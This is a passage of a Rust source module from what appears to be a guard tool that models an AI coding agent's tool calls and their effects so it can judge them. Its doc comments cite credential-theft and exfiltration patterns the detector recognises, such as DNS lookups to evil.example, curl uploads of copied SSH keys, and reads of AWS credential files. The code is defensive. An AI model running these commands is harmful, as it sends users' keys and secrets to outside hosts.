//! A tool call as the rules see it (`Call`: its kind and its effects) and the scope it runs
//! in (`Scope`: the filesystem view, the write roots, what self-protection guards). Plain
//! types at the bottom of the pipeline: `normalize` builds them, `effects` and `fileops` read
//! them, and neither needs to import the other's builder.

use crate::paths::PathResolver;
use crate::shell::ShellAnalysis;
use crate::vocab::Language;
pub use crate::vocab::{Remote, RemoteChange};
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::sync::Arc;

/// What a call does, in the terms the rules use.
#[derive(Debug, Clone, PartialEq)]
pub enum CallKind {
    /// `Bash`, `PowerShell`, `Monitor`: a command line and its analysis.
    Shell {
        command: String,
        analysis: ShellAnalysis,
    },
    /// `Read`, `Glob`, `Grep`, `LS`: paths read, resolved.
    Read { paths: Vec<PathBuf> },
    /// `Write`, `Edit`, `MultiEdit`, `NotebookEdit`: the resolved path and the new text.
    Write {
        path: PathBuf,
        content: Option<String>,
    },
    /// `WebFetch`: the URL and its host.
    Fetch { url: String, host: Option<String> },
    /// `mcp__server__tool`.
    Mcp { server: String, tool: String },
    /// Any other tool: judged by policy rules on its name and input only.
    Other,
}

/// One tool call, normalised.
#[derive(Debug, Clone, PartialEq)]
pub struct Call {
    pub tool: String,
    /// The event's input, shared with it.
    pub input: Arc<Value>,
    pub kind: CallKind,
    /// What the call does, computed once here (see `effects`). Empty for calls built by hand
    /// with no effects in mind; `Call::new` computes them.
    pub effects: Vec<Effect>,
}

/// Where the call runs and what must be protected: everything a rule needs besides the call.
#[derive(Debug, Clone, PartialEq)]
pub struct Scope {
    pub paths: PathResolver,
    /// The project root (`CLAUDE_PROJECT_DIR`, else the nearest ancestor of `cwd` with `.git`
    /// or `.palisade.yaml`, else `cwd`), resolved.
    pub project_root: PathBuf,
    /// Directories writes may go to without asking: project root, temp dirs, policy roots.
    pub roots: Vec<PathBuf>,
    /// palisade's own files and Claude Code's hook settings: no agent may write to them.
    pub protected: Protected,
    /// Where the content of files the judgement reads (a script a call runs, a file an edit
    /// changes) comes from.
    pub files: FileView,
    /// The calls of the script lines the judgement has read in this scope.
    pub lines: LineCalls,
}

/// Most lines a `LineCalls` keeps; past this a line is analysed each time it is asked.
const MAX_LINES: usize = 1024;

/// The calls of the command lines of scripts the judgement reads, by line. A run of a
/// ledgered script is read by the ledger's verdict, by what it records, and again on each
/// pass over the store (a chain followed into another file): each line, analysed once per
/// scope, which lives for one call. A line's call depends on the line and the scope only.
pub type LineCalls = Memo<String, std::rc::Rc<Call>, MAX_LINES>;

/// What a scope has worked out once and asks again during its call, by key: at most `CAP`
/// entries, past which a value is made each time it is asked. A cache, no part of what the
/// scope or view holding it is: any two are equal, and a copy starts with the same entries.
pub struct Memo<K, V, const CAP: usize> {
    map: std::cell::RefCell<std::collections::HashMap<K, V>>,
    /// Values made (not found): what the tests count.
    #[cfg(test)]
    made: std::cell::Cell<usize>,
}

impl<K: std::hash::Hash + Eq, V: Clone, const CAP: usize> Memo<K, V, CAP> {
    /// The value of `key`, made by `make` the first time it is asked.
    pub fn get_or<Q>(&self, key: &Q, make: impl FnOnce() -> V) -> V
    where
        K: std::borrow::Borrow<Q>,
        Q: std::hash::Hash + Eq + ToOwned<Owned = K> + ?Sized,
    {
        if let Some(v) = self.map.borrow().get(key) {
            return v.clone();
        }
        #[cfg(test)]
        self.made.set(self.made.get() + 1);
        let v = make();
        let mut map = self.map.borrow_mut();
        if map.len() < CAP {
            map.insert(key.to_owned(), v.clone());
        }
        v
    }

    /// How many values were made rather than found.
    #[cfg(test)]
    pub fn made(&self) -> usize {
        self.made.get()
    }
}

impl<K, V, const CAP: usize> Default for Memo<K, V, CAP> {
    fn default() -> Self {
        Memo {
            map: Default::default(),
            #[cfg(test)]
            made: Default::default(),
        }
    }
}

impl<K: Clone, V: Clone, const CAP: usize> Clone for Memo<K, V, CAP> {
    fn clone(&self) -> Self {
        let copy = Memo::default();
        *copy.map.borrow_mut() = self.map.borrow().clone();
        copy
    }
}

impl<K, V, const CAP: usize> PartialEq for Memo<K, V, CAP> {
    fn eq(&self, _: &Self) -> bool {
        true
    }
}

impl<K, V, const CAP: usize> std::fmt::Debug for Memo<K, V, CAP> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Memo({})", self.map.borrow().len())
    }
}

/// Where the judgement reads the content of files: the disk (the hook), or a fixed set of
/// files and no others (a world built by hand; none at all for `check` and `replay`, whose
/// world is lexical: `FileView::lexical`).
#[derive(Debug, Clone, PartialEq)]
pub enum FileView {
    /// The disk, and what this view has already looked up on it.
    Disk(Seen),
    /// These files, by resolved path; any other path does not exist.
    Fixed(std::sync::Arc<std::collections::BTreeMap<PathBuf, String>>),
}

impl Default for FileView {
    fn default() -> FileView {
        FileView::disk()
    }
}

/// Most identities a disk view keeps; past this a path is looked up each time it is asked.
const MAX_SEEN: usize = 4096;

/// The identities a disk view has looked up, by path. Stages ask about the same file in one
/// call (every `secret_class` of a read; a linked file has each secret at a fixed place
/// compared with it), and a scope lives for one call (or one `scan`, which changes no file):
/// each path is `stat`ed once.
pub type Seen = Memo<PathBuf, Option<FileId>, MAX_SEEN>;

impl FileView {
    /// The view of the disk, nothing looked up yet.
    pub fn disk() -> FileView {
        FileView::Disk(Seen::default())
    }

    /// The view of a lexical world: no file exists, so no verdict depends on one.
    pub fn lexical() -> FileView {
        FileView::Fixed(Default::default())
    }

    /// When what `path` names (links followed) last changed, its inode's change time in
    /// milliseconds since the epoch; `None` when the view has no such file or no times (a
    /// fixed view).
    pub fn changed_at(&self, path: &Path) -> Option<u64> {
        use std::os::unix::fs::MetadataExt;
        match self {
            FileView::Fixed(_) => None,
            FileView::Disk(_) => {
                let m = std::fs::metadata(path).ok()?;
                let ms = m.ctime().checked_mul(1000)? + m.ctime_nsec() / 1_000_000;
                u64::try_from(ms).ok()
            }
        }
    }

    /// The text of the first `max` bytes of the regular file at `path` (lossily UTF-8), or
    /// `None` when the view has no such file or it cannot be read.
    pub fn head(&self, path: &Path, max: usize) -> Option<String> {
        match self {
            FileView::Fixed(files) => files.get(path).map(|t| {
                let mut end = max.min(t.len());
                while !t.is_char_boundary(end) {
                    end -= 1;
                }
                t[..end].to_string()
            }),
            FileView::Disk(_) => read_regular(path, max, false),
        }
    }
}

/// What a file view says of a file's identity: the same (device, inode) is the same file,
/// whatever its path (a hard link).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FileId {
    /// Device and inode.
    pub id: (u64, u64),
    /// Hard links to it.
    pub links: u64,
    pub is_file: bool,
    pub is_dir: bool,
    /// A symbolic link itself: only in a directory's listing, which does not follow links.
    pub is_link: bool,
}

impl FileView {
    /// False only when the view knows `path` names nothing, not even a dangling link (the
    /// disk says so); a fixed view cannot tell, so anything may exist in it.
    pub fn may_exist(&self, path: &Path) -> bool {
        match self {
            FileView::Fixed(_) => true,
            FileView::Disk(_) => std::fs::symlink_metadata(path).is_ok(),
        }
    }

    /// The identity of what `path` names, links followed; `None` when the view has no such
    /// file or no identities (a fixed view: its files have no inodes).
    pub fn identity(&self, path: &Path) -> Option<FileId> {
        match self {
            FileView::Fixed(_) => None,
            FileView::Disk(seen) => {
                seen.get_or(path, || std::fs::metadata(path).ok().map(|m| file_id(&m)))
            }
        }
    }

    /// The whole text of the regular file at `path` (lossily UTF-8) when it is at most `max`
    /// bytes; `None` when the view has no such file or it is larger.
    pub fn text(&self, path: &Path, max: u64) -> Option<String> {
        match self {
            FileView::Fixed(files) => files.get(path).cloned(),
            FileView::Disk(_) => read_regular(path, max as usize, true),
        }
    }

    /// A file whose first 4 KiB hold a NUL: a compiled program, not a script.
    pub fn is_binary(&self, path: &Path) -> bool {
        match self {
            FileView::Fixed(files) => files
                .get(path)
                .is_some_and(|t| t.bytes().take(4096).any(|b| b == 0)),
            FileView::Disk(_) => {
                use std::io::Read;
                let mut head = [0u8; 4096];
                std::fs::File::open(path)
                    .and_then(|mut f| f.read(&mut head))
                    .is_ok_and(|n| head[..n].contains(&0))
            }
        }
    }

    /// The names in the directory `dir` (no metadata read); `None` when it cannot be listed. A
    /// fixed view lists nothing.
    pub fn names(&self, dir: &Path) -> Option<Vec<std::ffi::OsString>> {
        match self {
            FileView::Fixed(_) => None,
            FileView::Disk(_) => Some(list(dir)?.map(|e| e.file_name()).collect()),
        }
    }

    /// The entries of the directory `dir`, each with its identity, links not followed (at
    /// most `max`); `None` when it cannot be listed. A fixed view lists nothing.
    pub fn entries(&self, dir: &Path, max: usize) -> Option<Vec<(PathBuf, FileId)>> {
        match self {
            FileView::Fixed(_) => None,
            FileView::Disk(_) => Some(
                list(dir)?
                    .take(max)
                    .filter_map(|e| Some((e.path(), file_id(&e.metadata().ok()?))))
                    .collect(),
            ),
        }
    }
}

/// The first `max` bytes of the regular file at `path` as text (lossily UTF-8); with `whole`,
/// `None` for a file larger than `max`.
fn read_regular(path: &Path, max: usize, whole: bool) -> Option<String> {
    use std::io::Read;
    let meta = std::fs::metadata(path).ok()?;
    if !meta.is_file() || (whole && meta.len() > max as u64) {
        return None;
    }
    let mut bytes = Vec::new();
    std::fs::File::open(path)
        .ok()?
        .take(max as u64)
        .read_to_end(&mut bytes)
        .ok()?;
    Some(String::from_utf8_lossy(&bytes).into_owned())
}

/// The readable entries of the directory `dir` on disk.
fn list(dir: &Path) -> Option<impl Iterator<Item = std::fs::DirEntry>> {
    Some(std::fs::read_dir(dir).ok()?.flatten())
}

fn file_id(m: &std::fs::Metadata) -> FileId {
    use std::os::unix::fs::MetadataExt;
    FileId {
        id: (m.dev(), m.ino()),
        links: m.nlink(),
        is_file: m.is_file(),
        is_dir: m.is_dir(),
        is_link: m.file_type().is_symlink(),
    }
}

/// A path that self-protection guards, and what it is.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProtectedPath {
    pub path: PathBuf,
    /// Human name for reasons: "palisade's policy", "Claude Code settings"…
    pub what: String,
    /// Protects everything below `path` too. With a last component `*.ext` (transcripts:
    /// `projects/*.jsonl`), only files with that extension anywhere below its parent.
    pub subtree: bool,
    /// `path` is a relative tail (`.claude/settings.json`): any path ending in it is protected.
    pub suffix: bool,
}

/// The protected paths of a scope, resolved (through the links on the disk) on first use: most
/// calls change no path, and resolving every entry costs dozens of `stat`s per call.
#[derive(Clone, Default)]
pub struct Protected {
    list: std::sync::OnceLock<Vec<ProtectedPath>>,
    /// Builds the resolved list; `None` for a list given whole.
    build: Option<std::sync::Arc<dyn Fn() -> Vec<ProtectedPath> + Send + Sync>>,
    /// Entries added before the list was built, appended to it when it is.
    added: Vec<ProtectedPath>,
}

impl Protected {
    /// A list built by `build` when it is first read.
    pub fn lazy(build: impl Fn() -> Vec<ProtectedPath> + Send + Sync + 'static) -> Protected {
        Protected {
            build: Some(std::sync::Arc::new(build)),
            ..Protected::default()
        }
    }

    /// Adds an entry, without building the list.
    pub fn push(&mut self, p: ProtectedPath) {
        match self.list.get_mut() {
            Some(list) => list.push(p),
            None => self.added.push(p),
        }
    }
}

impl From<Vec<ProtectedPath>> for Protected {
    fn from(list: Vec<ProtectedPath>) -> Protected {
        Protected {
            list: std::sync::OnceLock::from(list),
            ..Protected::default()
        }
    }
}

impl std::ops::Deref for Protected {
    type Target = [ProtectedPath];

    fn deref(&self) -> &[ProtectedPath] {
        self.list.get_or_init(|| {
            let mut list = self.build.as_ref().map(|b| b()).unwrap_or_default();
            list.extend(self.added.iter().cloned());
            list
        })
    }
}

impl<'a> IntoIterator for &'a Protected {
    type Item = &'a ProtectedPath;
    type IntoIter = std::slice::Iter<'a, ProtectedPath>;

    fn into_iter(self) -> Self::IntoIter {
        self.iter()
    }
}

impl PartialEq for Protected {
    fn eq(&self, other: &Protected) -> bool {
        **self == **other
    }
}

impl std::fmt::Debug for Protected {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_list().entries(self.iter()).finish()
    }
}

impl Scope {
    /// True when `path` lies inside one of the write roots. A home directory inside a root
    /// (`HOME=/tmp/u` in a container or CI job) is not part of it: its dotfiles and keys are
    /// the user's, writable only through a root at or below home (the project).
    pub fn within_roots(&self, path: &Path) -> bool {
        let home = self.home();
        let in_home = path.starts_with(home);
        self.roots
            .iter()
            .any(|r| path.starts_with(r) && (!in_home || r.starts_with(home)))
    }

    /// Resolves a path as written in a tool input or a command argument; one under the top of
    /// the git work tree (`shell::GIT_TOPLEVEL`, a `cd` there) is under `git_toplevel`.
    pub fn resolve(&self, raw: &str) -> PathBuf {
        match raw.strip_prefix(crate::shell::GIT_TOPLEVEL) {
            Some(rest) if rest.is_empty() || rest.starts_with('/') => match self.git_toplevel() {
                Some(top) => self.paths.resolve(&format!("{}{rest}", top.display())),
                // Not in a work tree: git prints nothing, and a `cd` to nothing is not known.
                None => PathBuf::from(format!("/(cd {raw})")),
            },
            _ => self.paths.resolve(raw),
        }
    }

    /// The top of the git work tree holding the call's directory: the nearest directory up
    /// from it with a `.git` on disk; in a lexical world (`replay`, `check`), which has no
    /// files, the project root, where palisade takes the work tree to be.
    pub fn git_toplevel(&self) -> Option<PathBuf> {
        if matches!(self.files, FileView::Fixed(_)) {
            return Some(self.project_root.clone());
        }
        self.paths
            .cwd
            .ancestors()
            .find(|d| d.join(".git").symlink_metadata().is_ok())
            .map(Path::to_path_buf)
    }

    /// The user's home directory.
    pub fn home(&self) -> &Path {
        &self.paths.home
    }
}

/// The facts of a shell line's write beyond its path, content and how (`fileops::writes`,
/// computed once by normalize): what the ledger needs to record it.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct ShellWrite {
    /// `>>`, `tee -a`: the content is appended.
    pub append: bool,
    /// The content came from the network (`curl -o`, `wget -O`, `curl … > f`).
    pub from_network: bool,
    /// Index of the writing command in `ShellAnalysis::commands`.
    pub command: usize,
    /// The file whose content is copied here (`cp`, `mv`, `install`, `ln -s`, `cat a > b`).
    pub source: Option<PathBuf>,
}

/// How a shell line runs a file beyond its path, runner and language (`fileops::executions_in`,
/// computed once by normalize): what the ledger needs to judge the run.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct ShellRun {
    /// Index of the running command in `ShellAnalysis::commands`.
    pub command: usize,
    /// The parts of the file that run (npm scripts, make goals); empty = all.
    pub sections: Vec<String>,
    /// Variables the invocation sets for the file (`make PY=python3`).
    pub defines: Vec<(String, String)>,
    /// The path is a directory whose files of the runner's kind run.
    pub directory: bool,
    /// The file runs only if it is there: one a program loads by name or finds on its search
    /// path. It matters when the session wrote it; otherwise it is no run of a file.
    pub looked_up: bool,
    /// The arguments the run gives the file (`python3 x.py ~`), each `None` when not known.
    pub args: Vec<Option<String>>,
}

/// How much of a directory a delete's path covers.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Span {
    /// The path itself.
    Exact,
    /// Everything in the directory (`dir/*`, `dir/.*`).
    Contents,
    /// Some entries of the directory (`dir/*.log`, `dir/build-*`).
    Pattern,
    /// What `find` selects under the directory, its start (`find DIR -delete`,
    /// `find DIR -exec rm {} +`): everything, or only what its tests match (`filtered`).
    Found { filtered: bool },
}

/// A `find` test on the names of what it selects.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NameTest {
    pub on: NameMatch,
    /// `-iname`, `-ipath`, `-iwholename`, `-iregex`.
    pub case_insensitive: bool,
    /// The pattern as written.
    pub pattern: String,
}

/// What a `find` name test matches, and how.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum NameMatch {
    /// `-name`: a glob over the entry's last component.
    Name,
    /// `-path`, `-wholename`: a glob over the whole path as find prints it (its start as
    /// written, then the rest), `*` matching `/` too.
    Path,
    /// `-regex`: a regular expression over the whole path as find prints it; `extended` for
    /// `-regextype posix-extended` and its kin, else emacs syntax (`\(`, `\|` group).
    Regex { extended: bool },
}

/// What a delete removes.
#[derive(Debug, Clone, PartialEq)]
pub enum DeleteTarget {
    /// A target the line names, as written (`~/`, `build/*`, `$X`): resolved, with how much of
    /// it goes, or `path: None` when it is not known until the command runs (`"$X"`, `$(…)`).
    Named {
        written: String,
        path: Option<PathBuf>,
        span: Span,
    },
    /// Whatever standard input names (`… | xargs rm`): not known until it runs. `listed`
    /// holds the starts of a `find` whose output feeds it (`find /etc | xargs rm`), each as
    /// written and resolved when known: the names come from under them.
    Stdin {
        listed: Vec<(String, Option<PathBuf>)>,
    },
}

impl DeleteTarget {
    /// The path removed (or the directory a glob or `find` ranges over), when known.
    pub fn path(&self) -> Option<&PathBuf> {
        match self {
            DeleteTarget::Named { path, .. } => path.as_ref(),
            DeleteTarget::Stdin { .. } => None,
        }
    }
}

/// What a shell command sends to another host, computed once by `effects` (`effects/send.rs`)
/// from the program's vocabulary: what the exfiltration rules and session taint judge.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Sent {
    /// Index in `ShellAnalysis::commands` of the sending command; `None` for a tool's send.
    pub command: Option<usize>,
    /// The sending program (`curl`, `scp`, `aws`…), for reasons.
    pub program: String,
    /// What goes out, in the order the command line gives it.
    pub items: Vec<Payload>,
    /// Every host the command names (its URLs, `host:path` remotes, a socket's host), for
    /// whether the send leaves this machine and trusted hosts; empty when none is named.
    pub hosts: Vec<String>,
    /// The command sends data of its own beyond naming where it goes: a request body, form or
    /// upload, a writing method or a URL built from data, a remote command, a cloud CLI's
    /// upload, a socket's or a mailer's whole purpose. False for a fetch of a fixed URL (`curl
    /// URL`, `wget -O f URL`) and a cloud CLI's other commands (`aws s3 ls`). What session
    /// taint takes for a way out.
    pub data: bool,
}

/// Where in a request a piece of text goes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Part {
    /// The URL (host, path, query): seen by the host and its logs.
    Url,
    /// A header (`-H`, httpie's `Name:value`): how a token reaches the API it belongs to.
    Header,
    /// The body, or any other word of the command line.
    Body,
}

/// One thing a send carries.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Payload {
    /// A local file's content (`curl -d @f`, `-F x=@f`, `-T f`, `wget --post-file f`, `scp f
    /// host:`, `aws s3 cp f s3://…`).
    File(SentFile),
    /// Standard input, and what feeds it (a pipe, `< f`, a here-document).
    Stdin(Feed),
    /// The output of commands substituted into the request's words (`-d "$(cat f)"`).
    Output(Source),
    /// Text the command line gives (a URL, a header, a body), as written.
    Text { text: String, part: Part },
    /// A secret-looking variable expanded into the request (`$AWS_SECRET_ACCESS_KEY`).
    Variable { name: String, part: Part },
    /// The repository's commits, pushed to a URL named on the line instead of a configured
    /// remote (`git push https://host/x.git`).
    PushUrl(String),
    /// The repository's commits, pushed to the configured remote of this name (`git push
    /// origin`; a push naming no remote goes to `origin`).
    PushRemote(String),
    /// A DNS name built from data (`dig $(whoami).evil.example`), looked up: the resolvers on
    /// the way hand it to the servers of `domain`, whoever runs them, so the name is the
    /// message. `domain` is `None` when no literal domain ends the name (`dig "$D"`): the data
    /// goes to whichever zone it names.
    Name {
        name: String,
        domain: Option<String>,
    },
}

/// A local file a send carries.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SentFile {
    /// As written (`~/.aws/credentials`, `$HOME/x`, `id_*`).
    pub written: String,
    /// Resolved against the command's directory (a glob: the directory it ranges over);
    /// `None` when it is not known until the command runs.
    pub path: Option<PathBuf>,
    /// The commands of the line that wrote this file before it is sent (`cp ~/.ssh/id_rsa
    /// /tmp/k && curl -T /tmp/k …`), and what they read.
    pub written_by: Option<Source>,
}

/// What feeds a send's standard input.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Feed {
    /// Commands of the line piped into it (`cat f | base64 | curl -d @- …`).
    Pipe(Source),
    /// A file (`nc host 80 < f`).
    File(SentFile),
    /// A here-document or here-string, as written.
    Text(String),
}

/// Commands of a line whose output a send carries (piped in, substituted in, or writing a
/// file it sends), with what they read: computed once so that no rule re-reads their argv.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Source {
    /// Their indices in `ShellAnalysis::commands`, nearest first.
    pub commands: Vec<usize>,
    /// Files they read (a reader's operands, `@file` forms, `<`, paths in inline code).
    pub reads: Vec<PathBuf>,
    /// The program among them that prints the whole environment (`env`, `printenv`, `set`).
    pub environment: Option<String>,
    /// Secret-looking variables they print (`echo $K`, `printenv K`).
    pub variables: Vec<String>,
}

impl Sent {
    /// Every `Source` the send carries: its pipe, its substitutions, the writers of its files.
    pub fn sources(&self) -> impl Iterator<Item = &Source> {
        self.items.iter().filter_map(|i| match i {
            Payload::Output(s) | Payload::Stdin(Feed::Pipe(s)) => Some(s),
            Payload::File(f) | Payload::Stdin(Feed::File(f)) => f.written_by.as_ref(),
            _ => None,
        })
    }

    /// Every local file the send carries (uploaded, posted, copied, or fed to its stdin).
    pub fn files(&self) -> impl Iterator<Item = &SentFile> {
        self.items.iter().filter_map(|i| match i {
            Payload::File(f) | Payload::Stdin(Feed::File(f)) => Some(f),
            _ => None,
        })
    }

    /// What local data the send uploads, for a reason: a file, what is piped or redirected
    /// into it, or a push to a URL; `None` when it carries only text the line gives.
    pub fn upload(&self) -> Option<String> {
        let p = &self.program;
        // A file read into a substitution is sent as `@file` is (`-d "$(cat f)"`, a URL's
        // `?d=$(base64 f)`); in a header only, it is how a token reaches its API.
        let outside_headers = self.items.iter().any(|i| {
            matches!(i, Payload::Text { text, part } if *part != Part::Header
                && (text.contains("$(") || text.contains('`')))
        });
        self.items.iter().find_map(|i| match i {
            Payload::Output(s) if outside_headers && !s.reads.is_empty() => Some(format!(
                "`{p}` sends the content of {} (a substitution's output)",
                s.reads[0].display()
            )),
            Payload::File(f) => Some(format!("`{p}` sends the file `{}`", f.written)),
            Payload::Stdin(Feed::File(f)) => {
                Some(format!("`{p}` sends the file `{}` on its input", f.written))
            }
            Payload::Stdin(Feed::Pipe(_)) => Some(format!("`{p}` sends what is piped into it")),
            Payload::PushUrl(url) => Some(format!(
                "it pushes to the URL {url} instead of a configured remote"
            )),
            _ => None,
        })
    }
}

/// The shell command that reads a file (`Effect::Read`).
#[derive(Debug, Clone, PartialEq)]
pub struct Reader {
    /// Index of the command in the line's analysis.
    pub command: usize,
    /// The command's program (`grep`, `cat`…).
    pub program: String,
    /// True when the file is named to a program other than `cat` (an operand, an `@file` form,
    /// a path in inline code) rather than given as `cat`'s operand or `<` input. Taint and
    /// `count: read` limits were calibrated on the latter and count only those.
    pub operand: bool,
    /// Set when the file is a `find` start and the command reads what that find hands it (`find
    /// ~ -name id_rsa | xargs cat`, `find / -name '*.pem' -exec cat {} +`): the read is of
    /// the entries under the path that pass every name test, not of the start itself.
    pub found: Option<Found>,
    /// Set when the command reads every file under a directory it is given (`tar c DIR`,
    /// `cp -r`, `zip -r`, `grep -r '' DIR`, a find with no name test handing what it finds to
    /// a reader): the read is of the whole tree, and of what its links point to when it
    /// follows them.
    pub tree: Option<Tree>,
}

/// How a command that reads a whole tree treats the symbolic links inside it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Tree {
    /// Links below the top are kept as links or skipped (`tar c`, `cp -r`, `grep -r`).
    LinksKept,
    /// Links below the top are followed, so what they point to is read as part of the tree
    /// (`tar -h`, `cp -rL`, `zip -r`, `grep -R`, `find -L`, `find` handing links to `cat`).
    LinksFollowed,
}

/// What a `find` hands a reader under one of its starts: the entries that pass its name tests.
#[derive(Debug, Clone, PartialEq)]
pub struct Found {
    /// The start as written, as find prints it (for `-path` and `-regex`).
    pub start: String,
    /// The name tests every entry passes (never empty: a find none narrows reads the start).
    pub names: Vec<NameTest>,
    /// Links among the entries are handed over (no `-type` keeps them out, or `-L`): a reader
    /// reads what each points to.
    pub links: bool,
    /// find descends into the directories links point to (`-L`, `-follow`).
    pub follows: bool,
}

impl Effect {
    /// The path of a read taint and `count: read` limits count: a file tool's or MCP
    /// server's read, `cat`'s operands and `<` input. Not every `Read`: an operand read is
    /// also what `mv`, `ln -s`, `cp`, `sed -i` and `sha256sum` do to a file, which moves,
    /// links or digests it without its content reaching the context or, for `mv` and `ln`,
    /// being read at all (docs/ARCHITECTURE.md, "What still goes against the design").
    pub fn counted_read(&self) -> Option<&Path> {
        match self {
            Effect::Read { path, by } if by.as_ref().is_none_or(|r| !r.operand) => Some(path),
            _ => None,
        }
    }
}

/// One thing a call does.
#[derive(Debug, Clone, PartialEq)]
pub enum Effect {
    /// Reads the content of a file; `by` is the shell command that reads it (`None` for a
    /// file tool or an MCP server).
    Read { path: PathBuf, by: Option<Reader> },
    /// Lists or searches a directory: names, not contents.
    List { path: PathBuf },
    /// Writes (creates or replaces) a file; `content` when known statically. A directory
    /// when files land in it and which is not known (`tar -x -C DIR`, `patch -d DIR`, a git
    /// work tree: `how` says so, `effects::INTO_DIRECTORY`).
    Write {
        path: PathBuf,
        content: Option<String>,
        /// How: `Write`, `>`, `tee`, `cp`, `write_file`…
        how: String,
        /// What a shell line's write carries beyond these, for the ledger; `None` for a file
        /// tool's or an MCP tool's write (their call kind says the rest), and for a shell
        /// write the ledger does not record, whose content comes from elsewhere (`git
        /// checkout -- f`, a work tree or patch directory).
        shell: Option<ShellWrite>,
    },
    /// Creates a directory or an empty file.
    Create { path: PathBuf },
    /// Removes a file or a tree.
    Delete {
        target: DeleteTarget,
        /// Removes whole trees (`rm -r`, `find -delete`, a recursive delete tool).
        recursive: bool,
        /// The program that removes (`rm`, `trash`, `shred`…; `find -delete` for find's own
        /// action, `rm` for `find … -exec rm {}`).
        how: String,
        /// For what a `find` selects (a `Span::Found` target, or the names it feeds `xargs
        /// rm`): the tests on names every removed entry passes (`-name '*.pyc'`, `-path`,
        /// `-regex`). Empty when none narrows it so: no name test before the action, or an
        /// expression that can select around them (`-o`, `!`, `,`).
        names: Vec<NameTest>,
    },
    /// Moves or renames `from` (with how much of it a glob covers) to `to`.
    Move {
        from: PathBuf,
        to: PathBuf,
        span: Span,
        /// A glob source's pattern below `from`, as written (`settings*`, `*.json`,
        /// `s*/x`): `from` is then the directory it ranges over.
        glob: Option<String>,
    },
    /// Makes a link at `link` pointing to `target`.
    Link {
        link: PathBuf,
        target: PathBuf,
        symbolic: bool,
    },
    /// Changes the mode, owner or attributes of a path (of the whole tree under it when
    /// `recursive`).
    Chmod {
        path: PathBuf,
        how: String,
        recursive: bool,
    },
    /// Runs a program (with its arguments in the shell analysis) or a file.
    Execute {
        program: String,
        /// The file run, when it is one (`./x.sh`, `python x.py`).
        path: Option<PathBuf>,
        language: Option<Language>,
        /// For a file a shell line runs, how it is run (for the ledger's write-then-run
        /// judgement); `None` for a program run by name.
        run: Option<ShellRun>,
    },
    /// Runs a statement against a database.
    Query {
        engine: String,
        statement: String,
        /// Index in the shell analysis of the client command that runs it (a Bash SQL
        /// client, or the command line an MCP SQL tool is judged as), when there is one.
        command: Option<usize>,
    },
    /// Sends data to another host.
    Send {
        host: Option<String>,
        /// What is sent, when known (a request body, a file's content, a gist).
        data: Option<String>,
        /// What a shell line's send carries besides (files, standard input, text and
        /// variables in the request), computed once by `effects`; empty for a tool's send.
        sent: Sent,
    },
    /// Fetches from the network.
    Fetch { url: String, host: Option<String> },
    /// Signals or kills processes.
    Signal { target: String },
    /// Changes configuration that later runs code or sends data (git config, a git remote,
    /// shell start-up files, package-manager config).
    Configure {
        what: String,
        /// The config file changed and the text the change adds to it, when known statically
        /// (`git config [--global|--file F] KEY VALUE`): the ledger records it as a write.
        adds: Option<(PathBuf, String)>,
        /// The git remote the change adds, points at a URL or renames, if it does.
        remote: Option<Remote>,
        /// The key a setting gives a value (`git config [--global] KEY VALUE`, `git config set
        /// KEY VALUE`, `npm config set KEY VALUE`), as written, known statically or not;
        /// `None` for a read, an unset or a remote added by `git remote`.
        setting: Option<String>,
    },
    /// Starts another agent (`claude -p`, `codex exec`…).
    StartAgent { program: String },
    /// Serves the files under `root` over the network (`python3 -m http.server`, `php -S`,
    /// `npx http-server DIR`): whoever reaches the port reads them.
    Serve { root: PathBuf, program: String },
    /// Destroys something a service keeps for everyone who uses it, which does not come back:
    /// a hosted repository, a project, a database, a cluster, instances (an MCP tool whose
    /// name says so: `delete_repository`, `drop_database`, `terminate_instances`). `what` is
    /// the thing (`repository`), `tool` the tool.
    Destroy { what: String, tool: String },
    /// Moves money through a service, which does not come back by undoing the call: a
    /// payment, refund, payout or transfer (an MCP tool whose name says so: `create_refund`,
    /// `create_payout`, `pay_invoice`, `transfer_funds`). `what` is the movement, `tool` the
    /// tool.
    Pay { what: String, tool: String },
    /// Publishes to everyone what a service held back: a package or a release put out, or a
    /// repository or project made public (an MCP tool whose name and arguments say so:
    /// `publish_package`, `create_release`, `update_repository {"private": false}`). `what`
    /// says which, `tool` the tool.
    Publish { what: String, tool: String },
}

/// Calls `$f` on every filesystem path the effect `$effect` names (not what a send carries):
/// the one match that `Effect::paths` and `Effect::paths_mut` share. The same text serves a
/// shared and a mutable borrow (match ergonomics bind `&PathBuf` or `&mut PathBuf`), so the
/// two cannot drift apart when a variant is added.
macro_rules! each_path {
    ($effect:expr, $f:expr) => {{
        let f = &mut $f;
        match $effect {
            Effect::Read { path, .. }
            | Effect::List { path }
            | Effect::Write { path, .. }
            | Effect::Create { path }
            | Effect::Chmod { path, .. }
            | Effect::Serve { root: path, .. } => f(path),
            Effect::Delete { target, .. } => match target {
                DeleteTarget::Named {
                    path: Some(path), ..
                } => f(path),
                DeleteTarget::Named { path: None, .. } => {}
                DeleteTarget::Stdin { listed } => {
                    for (_, path) in listed {
                        if let Some(path) = path {
                            f(path)
                        }
                    }
                }
            },
            Effect::Move { from, to, .. } => {
                f(from);
                f(to);
            }
            Effect::Link { link, target, .. } => {
                f(link);
                f(target);
            }
            Effect::Execute {
                path: Some(path), ..
            } => f(path),
            Effect::Execute { path: None, .. } => {}
            Effect::Configure {
                adds: Some((path, _)),
                ..
            } => f(path),
            Effect::Configure { adds: None, .. } => {}
